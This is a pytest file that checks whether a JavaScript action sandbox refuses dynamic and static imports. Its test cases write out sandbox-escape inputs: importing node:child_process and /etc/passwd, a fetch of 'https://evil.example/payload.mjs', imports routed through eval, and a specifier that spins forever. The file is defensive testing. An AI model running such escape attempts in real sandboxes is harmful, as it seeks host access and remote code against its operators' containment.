"""Dynamic import: `import()` of Node built-ins, of data: URLs, of URLs, through eval and new
Function, from a timer, with a hostile specifier; static `import` and `import.meta`.

Outcome each case must get: nothing is loaded -- every import() rejects (uncaught, the action
fails with action_error naming the rejection, within its budget; caught, the action sees only a
plain Error), static import syntax fails the action as a SyntaxError on every execution, and a
specifier whose toString never returns ends at the budget (action_timeout). No host access.
Around every attack: server healthy, bystander unharmed (see _harness.py)."""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from ._harness import (ATTACKER, assert_flow_works_again, assert_healthy, assert_rounds_alike, attack_flow,
                       attack_payload, gated, run_attack)

BUDGET = 2.0


@dataclass(frozen=True)
class Case:
    code: str
    message: tuple[str, ...]
    error_class: tuple[str, ...] = ("action_error",)
    module: bool = False  # `code` is the whole module


CASES = [
    pytest.param(Case('await import("fs");', ("Not supported",)), id="import-fs"),
    pytest.param(Case('await import("node:child_process");', ("Not supported",)), id="import-node-child-process"),
    pytest.param(Case('await import("data:text/javascript,export default globalThis.process");', ("Not supported",)),
                 id="import-data-url"),
    pytest.param(Case('await import("https://evil.example/payload.mjs");', ("Not supported",)), id="import-https-url"),
    pytest.param(Case('await import("/etc/passwd");', ("Not supported",)), id="import-file-path"),
    pytest.param(Case("await eval(\"import('fs')\");", ("Not supported",)), id="eval-import"),
    pytest.param(Case("await new Function(\"return import('node:fs')\")();", ("Not supported",)), id="function-import"),
    pytest.param(Case("await (0, eval)(\"import('fs')\");", ("Not supported",)), id="indirect-eval-import"),
    pytest.param(Case('await import({ toString() { return "fs"; } });', ("Not supported",)), id="object-specifier"),
    pytest.param(Case("""
        await new Promise((resolve, reject) => setTimeout(() => import("fs").then(resolve, reject), 1));""",
        ("Not supported",)), id="import-from-timer"),
    pytest.param(Case('await import("fs", { with: { type: "json" } });', ("Not supported",)), id="import-attributes"),
    pytest.param(Case('import fs from "fs";\nexports.onExecutePostLogin = async () => {};',
                      ("SyntaxError", "Cannot use import statement outside a module"), module=True), id="static-import"),
    pytest.param(Case("exports.onExecutePostLogin = async () => { return import.meta.url; };",
                      ("SyntaxError", "import.meta"), module=True), id="import-meta"),
    # refused before the specifier is even converted (so it never spins); were it converted, the
    # loop would end at the budget as action_timeout
    pytest.param(Case("""
        await import({ toString() { for (;;) {} } });""", (), error_class=("action_error", "action_timeout")),
        id="specifier-spins"),
]


@pytest.mark.parametrize("case", CASES)
async def test_import_fails_cleanly(sandbox, case: Case):
    flow = attack_flow(case.code if case.module else gated(case.code))
    spins = "action_timeout" in case.error_class

    async def attack(_: int):
        return await sandbox.run(ATTACKER, flow, attack_payload(), budget=1.0 if spins else BUDGET)

    # a spinning specifier destroys its isolate: once (three in a minute quarantine the flow)
    out = await run_attack(sandbox, attack, flow=flow, max_rounds=1 if spins else 20, attempts=2 if spins else 3)
    if not spins:
        assert_rounds_alike(out)
    for seconds in out.seconds:
        assert seconds < (1.0 if spins else BUDGET) + 1.5, out.seconds
    for result in out.results:
        assert result.status == "failed", result.data
        assert result.error_class in case.error_class, result.error
        assert result.error["action"] == "hostile", result.error
        for part in case.message:
            assert part in result.error["message"], result.error
        if result.actions:
            assert result.actions[0]["commands"] == []
    assert_healthy(sandbox, out)
    if not case.module:
        await assert_flow_works_again(sandbox, flow)


PROBE = """
  const out = {};
  const tries = {
    fs: () => import("fs"),
    data: () => import("data:text/javascript,export default globalThis"),
    evalImport: () => eval("import('fs')"),
    functionImport: () => new Function("return import('node:child_process')")(),
  };
  for (const [name, load] of Object.entries(tries)) {
    try {
      const module = await load();
      out[name] = "LOADED:" + Object.keys(module).join(",");
    } catch (e) {
      out[name] = [Object.prototype.toString.call(e), Object.getPrototypeOf(e) === Error.prototype,
                   Reflect.ownKeys(e).map(String).sort().join(","), String(e.message)];
    }
  }
  api.idToken.setCustomClaim("https://example.com/imports", out);
"""


async def test_a_caught_import_rejection_is_a_plain_error_and_nothing_loads(sandbox):
    flow = attack_flow(gated(PROBE))

    async def attack(_: int):
        return await sandbox.run(ATTACKER, flow, attack_payload(), budget=BUDGET)

    out = await run_attack(sandbox, attack, flow=flow, max_rounds=20)
    assert_rounds_alike(out)
    result = out.result
    assert result.status == "completed", result.data
    found = result.actions[0]["commands"][0][2]
    assert set(found) == {"fs", "data", "evalImport", "functionImport"}
    for name, seen in found.items():
        assert not isinstance(seen, str), f"{name} loaded a module: {seen}"
        # a plain Error of this realm, with nothing attached but its message and stack
        assert seen[0] == "[object Error]" and seen[1] is True, (name, seen)
        assert seen[2] in ("message,stack", "message"), (name, seen)
        assert seen[3] == "Not supported", (name, seen)
    assert_healthy(sandbox, out)
    await assert_flow_works_again(sandbox, flow)
